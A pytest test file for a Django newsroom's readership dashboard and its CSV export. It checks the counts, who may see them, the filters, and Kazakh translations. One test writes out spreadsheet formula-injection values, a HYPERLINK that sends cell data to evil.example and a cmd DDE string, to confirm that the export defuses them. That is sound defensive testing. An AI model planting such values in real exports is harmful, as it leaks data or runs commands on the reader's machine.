"""«Что читают»: the counts by story, author, region, section and day, who may read them, and the CSV file."""

import csv
import io
from datetime import date, datetime, time, timedelta

import pytest
import time_machine
from django.contrib.auth.models import Group
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation

from articles import readership
from articles.models import HourlyCount
from articles.readership import ReadershipFilterForm
from regions.models import Region
from tests.factories import ArticleFactory, SectionFactory, UserFactory
from tests.pages import parse

pytestmark = pytest.mark.django_db

DASHBOARD = "/admin/articles/hourlycount/"
EXPORT = "/admin/articles/hourlycount/export/"
# A fixed moment, so that "today" and "the last 7 days" are known days: 5 December 2026, 15:20 in Almaty.
SVG = "{http://www.w3.org/2000/svg}"
NOW = datetime(2026, 12, 5, 15, 20, tzinfo=timezone.get_default_timezone())


def local(day, hour):
    """The start of `hour` o'clock on `day` in the newsroom's time zone."""
    return timezone.make_aware(datetime.combine(day, time(hour)))


def count(article, at, views=0, shares=0):
    return HourlyCount.objects.create(article=article, hour=at, views=views, shares=shares)


@pytest.fixture
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def newsroom(frozen, journalist, other_journalist):
    """Three stories of two journalists in two regions and two sections, read over three days."""
    north = Region.objects.get(slug="severo-kazakhstanskaya-oblast")
    akmola = Region.objects.get(slug="akmolinskaya-oblast")
    society = SectionFactory(name="Общество", slug="obshchestvo")
    economy = SectionFactory(name="Экономика", slug="ekonomika")
    journalist.first_name, journalist.last_name = "Айдос", "Серик"
    journalist.save()
    forum = ArticleFactory(
        published=True, title="Форум в Петропавловске", region=north, section=society, author=journalist
    )
    harvest = ArticleFactory(
        published=True, title="Уборка завершена", region=akmola, section=economy, author=other_journalist
    )
    national = ArticleFactory(published=True, title="Новости страны", region=None, section=economy, author=journalist)
    today, yesterday = date(2026, 12, 5), date(2026, 12, 4)
    count(forum, local(today, 9), views=10, shares=2)
    count(forum, local(today, 14), views=5)
    count(forum, local(yesterday, 23), views=7, shares=1)
    count(harvest, local(today, 0), views=20, shares=3)  # 19:00 UTC the day before: Almaty's day counts
    count(harvest, local(yesterday, 10), views=1)
    count(national, local(today, 15), views=4, shares=4)
    count(national, local(today - timedelta(days=10), 12), views=100)  # outside the last 7 days
    return {"forum": forum, "harvest": harvest, "national": national, "north": north, "economy": economy}


def week(counts):
    return counts.between(local(date(2026, 11, 29), 0), local(date(2026, 12, 6), 0))


# --- the counts, straight from the rows ---


def test_by_story_sums_each_storys_hours_in_the_period_most_viewed_first(newsroom):
    rows = list(week(HourlyCount.objects.all()).by_story())

    assert [(row["title"], row["views"], row["shares"]) for row in rows] == [
        ("Форум в Петропавловске", 22, 3),
        ("Уборка завершена", 21, 3),
        ("Новости страны", 4, 4),
    ]
    assert rows[0]["region_name"] == "Северо-Казахстанская область"
    assert rows[0]["section_name"] == "Общество"
    assert rows[0]["author_last_name"] == "Серик"


def test_by_author_adds_up_the_stories_of_each_author(newsroom, journalist, other_journalist):
    rows = {row["author_id"]: row for row in week(HourlyCount.objects.all()).by_author()}

    assert (rows[journalist.pk]["views"], rows[journalist.pk]["shares"], rows[journalist.pk]["stories"]) == (26, 7, 2)
    assert (rows[other_journalist.pk]["views"], rows[other_journalist.pk]["stories"]) == (21, 1)


def test_by_region_keeps_stories_for_the_whole_country_apart(newsroom):
    rows = [(row["region_name"], row["views"], row["stories"]) for row in week(HourlyCount.objects.all()).by_region()]

    assert rows == [("Северо-Казахстанская область", 22, 1), ("Акмолинская область", 21, 1), (None, 4, 1)]


def test_by_section_adds_up_the_stories_of_each_section(newsroom):
    rows = [(row["section_name"], row["views"], row["shares"]) for row in week(HourlyCount.objects.all()).by_section()]

    assert rows == [("Экономика", 25, 7), ("Общество", 22, 3)]


def test_by_day_cuts_days_at_midnight_in_almaty(newsroom):
    rows = [(row["day"], row["views"], row["stories"]) for row in week(HourlyCount.objects.all()).by_day(NOW.tzinfo)]

    assert rows == [(date(2026, 12, 4), 8, 2), (date(2026, 12, 5), 39, 3)]


def test_filters_by_region_and_section(newsroom):
    counts = week(HourlyCount.objects.all())

    assert counts.in_region(newsroom["north"]).totals() == {"views": 22, "shares": 3, "stories": 1}
    assert counts.in_section(newsroom["economy"]).totals() == {"views": 25, "shares": 7, "stories": 2}
    assert counts.in_region(None).in_section(None).totals() == {"views": 47, "shares": 10, "stories": 3}


def test_a_journalist_counts_only_their_own_stories(newsroom, journalist, moderator):
    assert week(HourlyCount.objects.visible_to(journalist)).totals() == {"views": 26, "shares": 7, "stories": 2}
    assert week(HourlyCount.objects.visible_to(moderator)).totals() == {"views": 47, "shares": 10, "stories": 3}


# --- who may open it ---


def test_anonymous_visitor_is_sent_to_sign_in(client):
    for url in (DASHBOARD, EXPORT):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/admin/login/")


def test_staff_without_a_desk_role_may_not_open_it(client, newsroom):
    clerk = UserFactory(username="clerk", is_staff=True)
    client.force_login(clerk)

    assert client.get(DASHBOARD).status_code == 403
    assert client.get(EXPORT).status_code == 403
    assert DASHBOARD not in client.get("/admin/").content.decode()


def test_moderator_sees_every_story_and_a_link_on_the_admin_index(moderator_client, newsroom):
    index = moderator_client.get("/admin/").content.decode()
    page = moderator_client.get(DASHBOARD).content.decode()

    assert f'href="{DASHBOARD}"' in index and "Что читают" in index
    assert "Форум в Петропавловске" in page
    assert "Уборка завершена" in page
    assert "Здесь цифры только ваших материалов." not in page


def test_journalist_sees_only_their_own_stories_even_when_asking_for_others(client, newsroom, journalist):
    client.force_login(journalist)

    index = client.get("/admin/").content.decode()
    page = client.get(DASHBOARD, {"region": "akmolinskaya-oblast"}).content.decode()
    everything = client.get(DASHBOARD).content.decode()
    exported = client.get(EXPORT, {"group": "author"}).content.decode("utf-8-sig")

    assert f'href="{DASHBOARD}"' in index
    assert "Уборка завершена" not in page and "Уборка завершена" not in everything
    assert "Форум в Петропавловске" in everything
    assert "Здесь цифры только ваших материалов." in everything
    assert list(csv.reader(io.StringIO(exported)))[1:] == [["Айдос Серик", "2", "26", "7"]]


def test_a_chief_editor_group_with_the_publish_permission_sees_everything(client, newsroom):
    chief = UserFactory(username="chief", is_staff=True)
    chief.groups.add(Group.objects.get(name="Moderators"))
    client.force_login(chief)

    page = client.get(DASHBOARD).content.decode()

    assert "Уборка завершена" in page and "Форум в Петропавловске" in page


# --- the page ---


def test_page_shows_totals_chart_table_and_most_read_now(moderator_client, newsroom):
    content = moderator_client.get(DASHBOARD).content.decode()
    tree = parse(content)

    totals = {dd.get("data-total"): dd.text for dd in tree.iter("dd")}
    assert totals == {"views": "47", "shares": "10", "stories": "3"}
    charts = [svg for svg in tree.iter(f"{SVG}svg") if svg.get("class") == "chart"]
    assert len(charts) == 2  # the days, and the most viewed stories
    for chart in charts:
        assert chart.get("role") == "img"
        title = chart.find(f"{SVG}title")
        assert chart.get("aria-labelledby") == title.get("id") and title.text
    bars = [(bar.get("width")) for bar in charts[1].iter(f"{SVG}rect")]
    assert bars == ["350.0", "334.1", "63.6"]  # 22, 21 and 4 views over the 350 points of the plot
    table = period_table(tree)
    first = [cell.text or cell.find("a").text for cell in table.find("tbody").find("tr")]
    assert first[0] == "Форум в Петропавловске"
    assert first[5:7] == ["22", "3"]
    now = tree.find(".//section[@aria-labelledby='most-read-hour']")
    assert now.find("h3").text == "С 14:00"
    assert [item.find("a").text for item in now.iter("li")] == ["Форум в Петропавловске", "Новости страны"]


def period_table(tree):
    """The period's table, among the page's tables (the sidebar's plan link is a table without a caption)."""
    return next(table for table in tree.iter("table") if table.findtext("caption") == "Просмотры и репосты за период")


@pytest.mark.parametrize(
    ("group", "first_row"),
    [
        ("author", ["Айдос Серик", "2", "26", "7"]),
        ("region", ["Северо-Казахстанская область", "1", "22", "3"]),
        ("section", ["Экономика", "2", "25", "7"]),
        ("day", ["29.11.2026", "0", "0", "0"]),
    ],
)
def test_each_breakdown_is_a_table(moderator_client, newsroom, group, first_row):
    tree = parse(moderator_client.get(DASHBOARD, {"group": group}).content.decode())

    table = period_table(tree)
    rows = table.find("tbody").findall("tr")
    assert ["".join(cell.itertext()) for cell in rows[0]] == first_row


def test_period_today_and_custom_dates(moderator_client, newsroom):
    today = parse(moderator_client.get(DASHBOARD, {"period": "today"}).content.decode())
    custom = parse(
        moderator_client.get(
            DASHBOARD, {"period": "custom", "start": "2026-11-25", "end": "2026-11-25"}
        ).content.decode()
    )

    assert {dd.get("data-total"): dd.text for dd in today.iter("dd")}["views"] == "39"
    assert {dd.get("data-total"): dd.text for dd in custom.iter("dd")}["views"] == "100"


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"period": "custom"}, "Для своего периода укажите обе даты: с какого и по какой день."),
        ({"period": "custom", "start": "2026-12-03", "end": "2026-12-01"}, "Начальная дата позже конечной."),
        ({"period": "custom", "start": "2026-12-01", "end": "2026-12-06"}, "Этот день ещё не наступил"),
        ({"period": "custom", "start": "2024-01-01", "end": "2026-12-01"}, "Выберите не больше 366 дней."),
        ({"period": "custom", "start": "01.12.2026x", "end": "2026-12-01"}, "Введите правильную дату."),
        ({"period": "year"}, "Выберите корректный вариант."),
        ({"region": "atlantis"}, "Выберите корректный вариант."),
    ],
)
def test_a_wrong_filter_is_named_and_kept_and_shows_no_figures(moderator_client, newsroom, query, message):
    response = moderator_client.get(DASHBOARD, query)
    content = response.content.decode()

    assert response.status_code == 200
    assert message in content
    assert 'data-total="views"' not in content
    assert "Скачать таблицу (CSV)" not in content
    for name in ("start", "end"):
        if name in query:
            assert f'name="{name}" value="{query[name]}"' in content  # what was typed is kept


def test_a_wrong_filter_on_the_export_leads_back_to_the_page_that_names_it(moderator_client, newsroom):
    response = moderator_client.get(EXPORT, {"period": "custom", "start": "2026-12-03", "end": "2026-12-01"})

    assert response.status_code == 302
    assert response["Location"] == f"{DASHBOARD}?period=custom&start=2026-12-03&end=2026-12-01"


# --- the CSV file ---


def exported(client, **query):
    response = client.get(EXPORT, query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return response, list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def test_export_holds_the_same_table_as_the_page(moderator_client, newsroom):
    response, rows = exported(moderator_client)

    assert response.content.startswith("\ufeff".encode())  # Excel then reads it as UTF-8
    assert response["Content-Disposition"] == 'attachment; filename="readership-story-20261129-20261205.csv"'
    assert rows[0] == [
        "Материал",
        "Автор",
        "Регион",
        "Рубрика",
        "Опубликован",
        "Просмотры",
        "Репосты",
        "Просмотров за всё время",
        "Репостов за всё время",
    ]
    assert rows[1] == ["Форум в Петропавловске", "Айдос Серик", "Северо-Казахстанская область", "Общество",
                       "2026-12-05", "22", "3", "0", "0"]  # fmt: skip
    assert [row[0] for row in rows[1:]] == ["Форум в Петропавловске", "Уборка завершена", "Новости страны"]
    assert rows[3][2] == "Вся страна"


def test_export_follows_the_filters(moderator_client, newsroom):
    _, rows = exported(moderator_client, group="day", period="today", section="ekonomika")

    assert rows == [["День", "Материалов", "Просмотры", "Репосты"], ["2026-12-05", "2", "24", "7"]]


def test_export_quotes_commas_quotes_and_line_breaks(moderator_client, newsroom):
    forum = newsroom["forum"]
    forum.title = 'Форум, «итоги» и "цифры"\nвторая строка'
    forum.save()

    response, rows = exported(moderator_client)

    assert rows[1][0] == 'Форум, «итоги» и "цифры"\nвторая строка'
    assert '"Форум, «итоги» и ""цифры""\nвторая строка"' in response.content.decode("utf-8-sig")


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_export_defuses_cells_a_spreadsheet_would_run_as_formulas(moderator_client, newsroom, start):
    forum = newsroom["forum"]
    forum.title = f'{start}HYPERLINK("http://evil.example/?"&A1;"Нажмите")'
    forum.save()
    journalist = forum.author
    journalist.first_name = f"{start}cmd|' /C calc'!A0"
    journalist.save()

    _, rows = exported(moderator_client)

    assert rows[1][0] == f"'{forum.title}"
    assert rows[1][1] == f"'{journalist.first_name} Серик"
    assert rows[1][5] == "22"  # numbers stay numbers


def test_page_costs_the_same_queries_however_many_stories_were_read(moderator_client, newsroom):
    def queries(group):
        with CaptureQueriesContext(connection) as captured:
            assert moderator_client.get(DASHBOARD, {"group": group}).status_code == 200
        return len(captured)

    before = {group: queries(group) for group in ("story", "author", "region", "section", "day")}
    for number in range(30):
        story = ArticleFactory(published=True, section=SectionFactory(), author=UserFactory(is_staff=True))
        count(story, local(date(2026, 12, 5) - timedelta(days=number % 7), 8), views=number, shares=1)
    after = {group: queries(group) for group in before}

    assert after == before
    assert max(after.values()) <= 16


def test_the_kazakh_interface_names_the_filters_and_regions_in_kazakh(newsroom):
    with translation.override("kk"):
        form = ReadershipFilterForm.from_query(QueryDict("group=region"))
        assert form.is_valid()
        rows = readership.table(week(HourlyCount.objects.all()), "region", form.chosen_period())

        assert [str(form.fields[name].label) for name in ("period", "start", "end", "group")] == [
            "Кезең", "Қай күннен", "Қай күнге дейін", "Топтастыру",
        ]  # fmt: skip
        assert rows.header == ["Өңір", "Материал саны", "Қаралымдар", "Репосттар"]
        assert [row[0] for row in rows.rows] == ["Солтүстік Қазақстан облысы", "Ақмола облысы", "Бүкіл ел"]
